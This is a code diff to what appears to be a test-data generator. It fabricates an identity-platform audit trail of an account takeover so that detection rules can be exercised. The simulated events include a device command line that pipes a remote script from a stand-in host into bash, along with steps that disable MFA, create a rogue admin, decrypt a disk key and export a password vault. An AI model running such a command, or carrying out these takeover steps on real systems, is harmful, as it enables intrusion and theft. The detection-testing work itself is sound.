@@ -455,7 +455,8 @@ const APPS = [
  * SSO application, changes a directory integration, reactivates a dormant account, runs a command on
  * devices, reads a disk encryption key, and a vault export by the compromised user.
  *
- * The attack lies in the 2 hours before `end` (the last 2 minutes stay empty). The new_terms rules
+ * The attack lies in the 7 minutes before the last 2 before `end` (which stay empty), so a rule run
+ * within 5 minutes of its collection sees it whole, whatever time it reads. The new_terms rules
  * need to have seen the victims' usual behaviour, so the scenario also holds 13 days of history
  * before the attack (the victim's logins from the United Kingdom, the administrator's logins from
  * AS209, the provisioning account's daily API calls): the events span up to 14 days before `end`.
@@ -468,7 +469,8 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
   const jitter = () => r.int(0, 20_000);
   const itAdmin = ADMIN_IT(r);
   const provisioning = PROVISIONING(r);
-  const victim = person(r, "m.garcia", ["81.2.69.144"]);
+  // Not one of the simulated tenant's own users (npm start --attack plays both): its history is this.
+  const victim = person(r, "e.moreau", ["81.2.69.144"]);
   const rogue: Admin = { email: `backup-admin@${DOMAIN}`, id: idOf(r), ip: IP.attacker };
   const stolen: Admin = { ...itAdmin, ip: IP.attackerAdmin };
   const dormant = person(r, "former.employee", ["81.2.69.145"]);
@@ -494,27 +496,32 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
     );
   }
 
-  const at = (minutesBeforeEnd: number) => end - minutesBeforeEnd * MINUTE + jitter();
+  // The attack's actions, `seconds` before end (a few seconds of jitter), the administrator's 8 s apart.
+  const at = (seconds: number) => end - seconds * 1_000 + r.int(0, 3_000);
+  let step = 290;
+  const next = () => at((step -= 8) + 8);
 
   // Password spray: 12 users, one failure each, from one address.
+  // All of it within the 7 minutes before the last 2: a windowed rule (threshold, new terms,
+  // sequence: the event's own time) run within 5 minutes of the collection still sees it whole.
   for (const [i, p] of sprayed.entries())
-    m.userLogin(end - 115 * MINUTE + i * 30_000, p, IP.attacker, false, CURL);
+    m.userLogin(end - 7 * MINUTE + i * 10_000, p, IP.attacker, false, CURL);
   // Brute force on the victim, then a success from China (failures then success; burst; new country).
-  for (let i = 0; i < 10; i++) m.userLogin(end - 105 * MINUTE + i * 24_000, victim, IP.attacker, false, CURL);
-  m.userLogin(end - 100 * MINUTE - 30_000, { ...victim, ua: FIREFOX_WIN }, IP.attacker, true);
+  for (let i = 0; i < 10; i++) m.userLogin(end - 400_000 + i * 8_000, victim, IP.attacker, false, CURL);
+  m.userLogin(end - 315_000, { ...victim, ua: FIREFOX_WIN }, IP.attacker, true);
   // LDAP password guessing against another user.
-  for (let i = 0; i < 25; i++) m.ldapBind(end - 98 * MINUTE + i * 12_000, "li.wei", IP.attackerLdap, false);
+  for (let i = 0; i < 25; i++) m.ldapBind(end - 390_000 + i * 4_000, "li.wei", IP.attackerLdap, false);
   // The stolen administrator session, from a network provider the administrator never used.
-  m.adminLogin(at(92), stolen, stolen.ip, true);
-  m.adminAction("organization_update", at(90), stolen, {
+  m.adminLogin(at(300), stolen, stolen.ip, true);
+  m.adminAction("organization_update", next(), stolen, {
     resource: { id: options.organization, type: "organization", displayName: "Example Corp" },
     changes: [{ field: "settings.requireAdminMFA", from: true, to: false }],
   });
-  m.adminAction("admin_totp_disable", at(89), stolen, {
+  m.adminAction("admin_totp_disable", next(), stolen, {
     resource: { id: itAdmin.id, type: "admin", email: itAdmin.email },
   });
-  m.adminAction("totp_delete_enrollment", at(88), stolen, { resource: resourceUser(victim) });
-  m.adminAction("admin_create", at(86), stolen, {
+  m.adminAction("totp_delete_enrollment", next(), stolen, { resource: resourceUser(victim) });
+  m.adminAction("admin_create", next(), stolen, {
     resource: { id: rogue.id, type: "admin", email: rogue.email },
     changes: [
       { field: "email", to: rogue.email },
@@ -522,7 +529,7 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
       { field: "enableMultiFactor", to: false },
     ],
   });
-  m.adminAction("user_admin_granted", at(85), stolen, {
+  m.adminAction("user_admin_granted", next(), stolen, {
     resource: resourceUser(victim),
     changes: [
       {
@@ -532,18 +539,18 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
       },
     ],
   });
-  m.adminAction("admin_update", at(84), stolen, {
+  m.adminAction("admin_update", next(), stolen, {
     resource: { id: rogue.id, type: "admin", email: rogue.email },
     changes: [{ field: "apiKeyAllowed", from: false, to: true }],
   });
-  m.adminAction("admin_update", at(83), rogue, {
+  m.adminAction("admin_update", next(), rogue, {
     resource: { id: rogue.id, type: "admin", email: rogue.email },
-    changes: [{ field: "apiKeyCreatedAt", to: new Date(end - 83 * MINUTE).toISOString() }],
+    changes: [{ field: "apiKeyCreatedAt", to: new Date(end - 240_000).toISOString() }],
   });
   // The new key's first calls, from the attacker's address.
   m.adminAction(
     "user_update",
-    at(80),
+    next(),
     rogue,
     {
       resource: resourceUser(dormant),
@@ -551,15 +558,15 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
     },
     { apiKey: true },
   );
-  m.adminAction("authnpolicy_update", at(76), stolen, {
+  m.adminAction("authnpolicy_update", next(), stolen, {
     resource: { id: r.hex(24), type: "authnpolicy", name: "Require MFA outside the office" },
     changes: [{ field: "effect.action", from: "allow_mfa", to: "allow" }],
   });
-  m.adminAction("iplist_update", at(74), stolen, {
+  m.adminAction("iplist_update", next(), stolen, {
     resource: { id: r.hex(24), type: "iplist", name: "Trusted networks" },
     changes: [{ field: "ips", from: ["81.2.69.142/31"], to: ["81.2.69.142/31", "175.16.199.0/24"] }],
   });
-  m.adminAction("policy_delete", at(70), stolen, {
+  m.adminAction("policy_delete", next(), stolen, {
     resource: {
       id: r.hex(24),
       type: "policy",
@@ -567,21 +574,21 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
       policy_template_name: "filevault_2_darwin",
     },
   });
-  m.adminAction("group_delete", at(69), stolen, {
+  m.adminAction("group_delete", next(), stolen, {
     resource: { id: r.hex(24), type: "system_group", name: "Encrypted Macs" },
   });
-  m.adminAction("application_create", at(66), stolen, {
+  m.adminAction("application_create", next(), stolen, {
     resource: { id: r.hex(24), type: "application", name: "custom-saml-app", displayLabel: "Payroll" },
     changes: [
       { field: "displayLabel", to: "Payroll" },
       { field: "config.acsUrl.value", to: "https://payroll-sso.example.net/saml/acs" },
     ],
   });
-  m.adminAction("o365_directory_update", at(62), stolen, {
+  m.adminAction("o365_directory_update", next(), stolen, {
     resource: { id: r.hex(24), type: "office_365", name: "example.com" },
     changes: [{ field: "defaultDomain", from: "example.com", to: "example-corp.net" }],
   });
-  m.adminAction("user_unsuspended", at(58), stolen, {
+  m.adminAction("user_unsuspended", next(), stolen, {
     resource: resourceUser(dormant),
     changes: [
       { field: "state", from: "SUSPENDED", to: "ACTIVATED" },
@@ -589,7 +596,7 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
     ],
   });
   const command = { id: r.hex(24), type: "command", name: "maintenance" };
-  m.adminAction("command_create", at(50), stolen, {
+  m.adminAction("command_create", next(), stolen, {
     resource: command,
     changes: [
       { field: "command", to: "curl -fsSL https://cdn.example-updates.net/m.sh | bash" },
@@ -597,16 +604,16 @@ export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
       { field: "user", to: "000000000000000000000000" },
     ],
   });
-  m.adminAction("command_run", at(46), stolen, { resource: command });
-  const mac = { id: r.hex(24), hostname: "MGARCIA-MBP", displayName: "MGARCIA-MBP" };
-  m.add("systems", "system_fde_key_decrypt", at(40), {
+  m.adminAction("command_run", next(), stolen, { resource: command });
+  const mac = { id: r.hex(24), hostname: "EMOREAU-MBP", displayName: "EMOREAU-MBP" };
+  m.add("systems", "system_fde_key_decrypt", next(), {
     initiated_by: { id: stolen.id, type: "admin", email: stolen.email },
     system: mac,
     client_ip: stolen.ip,
     geoip: jumpcloudGeo(stolen.ip),
     success: true,
   });
-  m.passwordManager("passwordmanager_items_export", at(30), victim, IP.attacker);
+  m.passwordManager("passwordmanager_items_export", next(), victim, IP.attacker);
   return m.sorted();
 }
 
